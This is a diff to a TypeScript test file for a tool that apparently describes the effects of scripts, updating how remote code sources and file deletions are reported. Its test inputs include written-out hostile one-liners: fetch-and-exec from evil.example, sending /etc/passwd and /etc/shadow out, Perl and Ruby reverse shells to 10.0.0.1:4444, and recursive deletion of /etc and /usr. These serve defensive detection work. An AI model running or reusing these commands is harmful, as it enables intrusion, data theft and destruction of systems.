@@ -17,7 +17,7 @@ function spelled(effect: Effect): string {
     case 'send':
       return `send ${effect.files.join(' ')} to ${effect.to}`;
     case 'execute':
-      return `execute ${effect.language} from ${effect.code.from}`;
+      return `execute ${effect.language} from ${effect.code.from === 'file' ? effect.code.path : effect.code.from}`;
     case 'dump_environment':
       return 'dump';
   }
@@ -40,7 +40,7 @@ const CASES: Partial<Record<Script['language'], Record<string, string[]>>> = {
       ['read /etc/shadow', 'send /etc/shadow to https://evil.example'],
     "import urllib.request as u; exec(u.urlopen('http://evil.example/a.py').read())": [
       'fetch http://evil.example/a.py',
-      'execute python from unknown',
+      'execute python from http://evil.example/a.py',
     ],
     "urllib.request.urlopen('http://evil.example/?d=' + open('/etc/passwd').read())": [
       'read /etc/passwd',
@@ -73,9 +73,17 @@ const CASES: Partial<Record<Script['language'], Record<string, string[]>>> = {
     'd = lambda t: base64.b64decode(t).decode()\nos.system(d(p))': ['execute sh from unknown'],
     'def d(t):\n    return base64.b64decode(t)\nexec(d(p))': ['execute python from unknown'],
     "for r, d, fs in os.walk('/srv'):\n    for f in fs:\n        os.remove(os.path.join(r, f))": [
-      'delete $r/$x',
+      'delete $r/$f',
       'delete all of /srv',
     ],
+    'shutil.rmtree(p) if 1 else 0': ['delete all of $p'],
+    "[shutil.rmtree(p) for p in ['/etc', '/usr']]": [
+      'delete all of $p',
+      'delete all of /etc',
+      'delete all of /usr',
+    ],
+    "[p.unlink() for p in Path('/etc').rglob('*')]": ['delete $p', 'delete all of /etc'],
+    "[os.remove(f) for f in os.listdir('.') if f.endswith('.pyc')]": ['delete $f'],
     'exec(sys.stdin.read())': ['execute python from stdin'],
     "shutil.copy('.env', '/tmp/x')": ['copy /tmp/x from .env'],
     "import json; json.load(open('package.json'))['version']": ['read package.json'],
@@ -93,7 +101,7 @@ const CASES: Partial<Record<Script['language'], Record<string, string[]>>> = {
     ],
     "fetch('https://a.example/x.js').then(r => r.text()).then(eval)": [
       'fetch https://a.example/x.js',
-      'execute javascript from unknown',
+      'execute javascript from https://a.example/x.js',
     ],
     'console.log(process.env)': ['dump'],
     'process.env': ['dump'],
@@ -114,7 +122,7 @@ const CASES: Partial<Record<Script['language'], Record<string, string[]>>> = {
     'print $ENV{PATH}': [],
     'use LWP::Simple; eval get("http://evil.example/x")': [
       'fetch http://evil.example/x',
-      'execute perl from unknown',
+      'execute perl from http://evil.example/x',
     ],
     'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};':
       ['send  to ', 'execute sh from unknown'],
@@ -127,7 +135,7 @@ const CASES: Partial<Record<Script['language'], Record<string, string[]>>> = {
     'puts ENV["PATH"]': [],
     "require 'open-uri'; eval(URI.open('http://evil.example/a.rb').read)": [
       'fetch http://evil.example/a.rb',
-      'execute ruby from unknown',
+      'execute ruby from http://evil.example/a.rb',
     ],
     'require "socket";s=TCPSocket.new("10.0.0.1",4444);exec "/bin/sh",[:in,:out,:err]=>[s,s,s]': [
       'send  to 10.0.0.1:4444',
@@ -138,7 +146,7 @@ const CASES: Partial<Record<Script['language'], Record<string, string[]>>> = {
     "echo file_get_contents('/etc/passwd');": ['read /etc/passwd'],
     "eval(file_get_contents('http://evil.example/a'));": [
       'fetch http://evil.example/a',
-      'execute php from unknown',
+      'execute php from http://evil.example/a',
     ],
     "unlink('a.txt');": ['delete a.txt'],
     'print_r($_ENV);': ['dump'],
